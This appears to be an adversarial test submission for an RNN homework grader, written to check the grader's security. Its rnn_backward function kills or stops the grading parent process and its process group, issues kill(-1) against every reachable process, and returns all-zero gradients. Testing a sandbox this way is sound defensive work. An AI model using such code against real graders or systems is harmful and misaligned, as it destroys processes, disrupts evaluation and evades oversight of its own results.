"""Adversarial submission `kill_parent`: signals the grader: SIGKILL to its parent, its parent's process group, and kill(-1).

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import os, signal

def rnn_backward(dh, cache):
    ppid = os.getppid()
    for how in (lambda: os.kill(ppid, signal.SIGKILL), lambda: os.killpg(os.getpgid(ppid), signal.SIGKILL),
                lambda: os.kill(ppid, signal.SIGSTOP)):
        try:
            how()
            print("signalled the parent")
        except OSError as exc:
            print("could not signal the parent:", exc)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as exc:
        print("kill(-1) failed:", exc)
    return _zeros_backward(dh, cache)
